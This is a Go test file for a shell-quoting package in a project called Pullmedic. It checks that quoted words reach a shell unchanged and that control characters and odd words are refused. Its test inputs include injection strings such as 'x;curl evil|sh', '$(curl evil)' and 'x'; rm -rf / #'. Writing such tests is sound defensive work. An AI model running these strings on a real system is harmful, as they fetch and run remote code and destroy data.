// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package shell_test

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/pullmedic/pullmedic/internal/shell"
)

func hostileWords() []string {
	return []string{
		"x;curl evil|sh", "$(curl evil)", "`id`", "a b", "it's", `"quoted"`, "a&b", "a>b", "a<b", "*", "?", "~root", "!x", "#c", "{a,b}", "[x]",
		`back\slash`, "a=b", "=x", "-n", "--context=x", "$HOME", "ünïcode", "x'; rm -rf / #", "''", "%s", "a,b", "(x)",
	}
}

func TestQuotedWordsReachAShellAsTheyAre(t *testing.T) {
	for _, word := range hostileWords() {
		out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf '%s|' before "+shell.Quote(word)+" after").Output()
		if err != nil {
			t.Fatalf("%q: %v", word, err)
		}
		if got, want := string(out), "before|"+word+"|after|"; got != want {
			t.Errorf("the shell read %q as %q, want %q", word, got, want)
		}
	}
	if got := shell.Quote("a\nb"); got != "'a\nb'" {
		t.Errorf("a newline is not quoted: %q", got)
	}
}

func TestCommandRefusesWhatATerminalWouldNotShow(t *testing.T) {
	for _, word := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb", "a\x00b", "a\tb", "", "\xff", strings.Repeat("x", 5000), "two  blanks", " edge"} {
		if got, ok := shell.Command("kubectl", word); ok {
			t.Errorf("the word %q went into the command %q", word, got)
		}
	}
	if got, ok := shell.Command("kubectl", "--context", "it's prod"); !ok || got != `kubectl --context 'it'\''s prod'` {
		t.Errorf("got %q, %v", got, ok)
	}
}
